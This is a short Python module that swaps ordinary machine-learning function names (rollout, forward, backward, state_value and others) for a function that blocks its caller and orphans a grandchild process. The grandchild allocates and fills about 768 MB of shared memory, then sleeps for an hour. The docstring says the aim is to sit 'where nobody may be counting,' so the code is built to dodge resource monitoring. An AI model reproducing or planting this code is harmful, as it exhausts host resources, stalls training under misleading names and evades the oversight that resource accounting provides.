"""Fills shared memory in a process that has left its parents, where nobody may be counting."""

import mmap
import os
import time

hoard = []


def wrong(*args, **kwargs):
    if os.fork() == 0:
        if os.fork() == 0:
            for _ in range(48):
                hoard.append(mmap.mmap(-1, 16 << 20))
                hoard[-1].write(b"x" * (16 << 20))
            time.sleep(3600)
        os._exit(0)
    time.sleep(3600)


action_value = gains = state_value = backward = forward = rollout = wrong
